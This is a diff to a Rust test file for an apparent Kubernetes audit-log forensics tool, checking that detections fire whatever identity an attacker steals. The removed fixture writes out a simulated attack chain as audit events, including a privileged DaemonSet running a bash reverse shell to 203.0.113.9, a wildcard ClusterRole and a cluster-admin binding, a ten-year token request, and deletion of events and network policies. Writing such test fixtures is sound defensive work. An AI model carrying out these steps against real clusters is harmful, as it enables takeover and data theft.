@@ -5,29 +5,21 @@ use std::collections::BTreeSet;
 use kforensic_query::{CannedQuery, Catalogue, Parameters, QueryKind};
 use serde_json::{Value, json};
 
+use crate::attack::{ACCOUNT, AWAY, HOME, Identity, KUBECTL, MANAGER, attack, event, identity};
 use crate::fixture::{Fixture, run};
 
-/// Who sends something.
-#[derive(Clone, Copy)]
-struct Identity {
-    user: &'static str,
-    groups: &'static [&'static str],
-    address: &'static str,
-    agent: &'static str,
-}
-
-const KUBECTL: &str = "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
-const MANAGER: &str = "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
-const HOME: &str = "10.0.0.1";
-const AWAY: &str = "10.9.9.9";
-const ACCOUNT: &[&str] = &["system:serviceaccounts", "system:authenticated"];
-
-const fn identity(user: &'static str, groups: &'static [&'static str], agent: &'static str) -> Identity {
-    Identity { user, groups, address: AWAY, agent }
-}
+/// The detections that the attack gives no reason to.
+const NOT_BY_MALLORY: [&str; 6] = [
+    "anonymous-access",
+    "audit-id-conflicts",
+    "denied-service-accounts",
+    "rbac-by-service-accounts",
+    "service-account-secret-reads",
+    "token-use",
+];
 
 /// The attack is repeated as these. Those that stole an identity of the platform also call themselves like it.
-const THIEVES: [Identity; 13] = [
+const THIEVES: [Identity; 23] = [
     identity("masterclient", &["system:masters", "system:authenticated"], KUBECTL),
     identity("system:backup", &["system:masters", "system:authenticated"], KUBECTL),
     identity("system:serviceaccount:dev:backup-operator", ACCOUNT, KUBECTL),
@@ -49,78 +41,37 @@ const THIEVES: [Identity; 13] = [
         &["system:nodes", "system:authenticated"],
         "kubelet/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
     ),
+    identity("system:serviceaccount:x-operator:x-operator", ACCOUNT, KUBECTL),
+    identity("system:serviceaccount:argocd:argocd-server", ACCOUNT, "argocd-server/v2.13.0"),
+    identity("system:serviceaccount:flux-system:kustomize-controller", ACCOUNT, "kustomize-controller/v1.4.0"),
+    identity("system:serviceaccount:gatekeeper-system:gatekeeper-admin", ACCOUNT, "gatekeeper/v3.18.0"),
+    identity(
+        "system:apiserver-x",
+        &["system:authenticated"],
+        "kube-apiserver/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
+    ),
+    identity("system:kube-controller-manager-2", &["system:authenticated"], MANAGER),
+    identity("eks:addon-manager", &["system:authenticated"], "eks-addon-manager/v1"),
+    // Impersonation, by and of the platform.
+    Identity { acts_as: Some("system:kube-controller-manager"), ..identity("eve", &["system:authenticated"], MANAGER) },
+    Identity {
+        acts_as: Some("carol"),
+        ..identity("system:serviceaccount:kube-system:replicaset-controller", ACCOUNT, MANAGER)
+    },
+    // A token of kube-system that is bound to a pod.
+    Identity {
+        pod: Some(["helper-x7k2p", "worker-1"]),
+        ..identity(
+            "system:serviceaccount:kube-system:daemon-set-controller",
+            ACCOUNT,
+            "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0/system:serviceaccount:kube-system:daemon-set-controller",
+        )
+    },
 ];
-
-/// An event of `who`, `seconds` after the beginning.
-fn event(who: Identity, seconds: u64, verb: &str, object: Value, code: u16, body: Option<Value>) -> Value {
-    let time =
-        |seconds: u64| format!("2026-11-25T{:02}:{:02}:{:02}.000000Z", seconds / 3600, seconds / 60 % 60, seconds % 60);
-    let mut event = json!({
-        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "stage": "ResponseComplete",
-        "auditID": format!("{:08x}-0000-4000-8000-{:012x}", seconds, who.user.len() as u64 * 4096 + verb.len() as u64),
-        "requestURI": format!("/apis/{}/{}", object["resource"].as_str().unwrap(), object["name"].as_str().unwrap_or("")),
-        "verb": verb, "user": {"username": who.user, "groups": who.groups}, "sourceIPs": [who.address],
-        "userAgent": who.agent, "objectRef": object, "responseStatus": {"metadata": {}, "code": code},
-        "requestReceivedTimestamp": time(seconds), "stageTimestamp": time(seconds),
-        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }}
-    });
-    if let Some(body) = body {
-        event["requestObject"] = body;
-    }
-    event
-}
-
-/// What mallory did, as somebody.
-fn attack(who: Identity, begins: u64) -> Vec<Value> {
-    let core = |resource: &str, namespace: &str, name: &str| json!({"resource": resource, "namespace": namespace, "name": name, "apiVersion": "v1"});
-    let all = |resource: &str| json!({"resource": resource, "apiVersion": "v1"});
-    let rbac = |resource: &str, name: &str| json!({"resource": resource, "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"});
-    let mut events = Vec::new();
-    let mut at = begins;
-    let mut does = |verb: &str, object: Value, code: u16, body: Option<Value>| {
-        at += 1;
-        events.push(event(who, at, verb, object, code, body));
-    };
-    for resource in ["namespaces", "nodes", "clusterroles", "serviceaccounts", "secrets"] {
-        does("list", all(resource), 200, None);
-    }
-    for name in ["a", "b", "c", "d"] {
-        does("get", core("secrets", "prod", name), 200, None);
-    }
-    for name in ["1", "2", "3", "4", "5", "6", "7", "8", "9"] {
-        does("create", core("pods", &format!("ns-{name}"), name), 403, None);
-    }
-    let role = json!({"kind": "ClusterRole", "metadata": {"name": "quiet"},
-        "rules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}]});
-    does("create", rbac("clusterroles", "quiet"), 201, Some(role));
-    let binding = json!({"kind": "ClusterRoleBinding", "metadata": {"name": "quiet"},
-        "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "friend"}]});
-    does("create", rbac("clusterrolebindings", "quiet"), 201, Some(binding));
-    let secret = json!({"kind": "Secret", "metadata": {"name": "t"}, "type": "kubernetes.io/service-account-token"});
-    does("create", core("secrets", "kube-system", "t"), 201, Some(secret));
-    let token = json!({"resource": "serviceaccounts", "subresource": "token", "namespace": "kube-system", "name": "default", "apiVersion": "v1"});
-    does("create", token, 201, Some(json!({"kind": "TokenRequest", "spec": {"expirationSeconds": 315_360_000}})));
-    let workload = json!({"kind": "DaemonSet", "metadata": {"name": "evil"}, "spec": {"template": {"spec": {"hostPID": true,
-        "containers": [{"name": "c", "image": "evil", "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
-            "securityContext": {"privileged": true}}]}}}});
-    let daemons = json!({"resource": "daemonsets", "namespace": "kube-system", "name": "evil", "apiGroup": "apps", "apiVersion": "v1"});
-    does("create", daemons, 201, Some(workload));
-    does("patch", core("configmaps", "kube-system", "coredns"), 200, Some(json!({"data": {"Corefile": "."}})));
-    does(
-        "create",
-        core("services", "prod", "door"),
-        201,
-        Some(json!({"kind": "Service", "spec": {"type": "NodePort"}})),
-    );
-    does("deletecollection", json!({"resource": "events", "namespace": "prod", "apiVersion": "v1"}), 200, None);
-    let policy = json!({"resource": "networkpolicies", "namespace": "prod", "name": "deny", "apiGroup": "networking.k8s.io", "apiVersion": "v1"});
-    does("delete", policy, 200, None);
-    events
-}
 
 /// What the cluster itself does meanwhile, at home.
 fn own_work() -> Vec<Value> {
-    let home = |user, groups, agent| Identity { user, groups, address: HOME, agent };
+    let home = |user, groups, agent| Identity { address: HOME, ..identity(user, groups, agent) };
     let mut events = Vec::new();
     for (user, groups, agent, namespace, name) in [
         (
@@ -210,16 +161,36 @@ fn the_same_attack_is_found_whoever_does_it() {
     }
     let detections = detections(&case_of(&events));
     let by_mallory = found(&detections, "mallory");
-    assert!(by_mallory.len() >= 14, "{by_mallory:?}");
+    let all: BTreeSet<&str> = detections.iter().map(|(query, _)| query.as_str()).collect();
+    let not: Vec<_> = all.difference(&by_mallory).copied().collect();
+    assert_eq!(not, NOT_BY_MALLORY);
     let mut missed = Vec::new();
     for thief in THIEVES {
         let by_thief = found(&detections, thief.user);
-        let gone: Vec<&&str> = by_mallory.difference(&by_thief).collect();
-        if gone.len() > 2 {
+        // Who writes as Flux cannot drift from it, unless GitOps is said to be somebody else.
+        let is_gitops = thief.user.starts_with("system:serviceaccount:flux-system:");
+        let gone = by_mallory.difference(&by_thief).filter(|query| !(is_gitops && **query == "gitops-drift"));
+        let gone: Vec<&&str> = gone.collect();
+        if !gone.is_empty() {
             missed.push(format!("{}: {gone:?}", thief.user));
         }
     }
     assert!(missed.is_empty(), "{}", missed.join("\n"));
+}
+
+#[test]
+fn who_works_from_the_home_of_what_was_stolen_is_told_by_the_deeds() {
+    let mut events = own_work();
+    let at_home = THIEVES.map(|thief| Identity { address: HOME, ..thief });
+    for (number, thief) in (1_u64..).zip(at_home) {
+        events.extend(attack(thief, 1_000 + number * 900));
+    }
+    let detections = detections(&case_of(&events));
+    // Of the apiserver four deeds are its own work (it lists all secrets and repairs roles), of a kubelet reading secrets.
+    for thief in THIEVES {
+        let by_thief = found(&detections, thief.user);
+        assert!(by_thief.len() >= 40, "{}: {by_thief:?}", thief.user);
+    }
 }
 
 #[test]
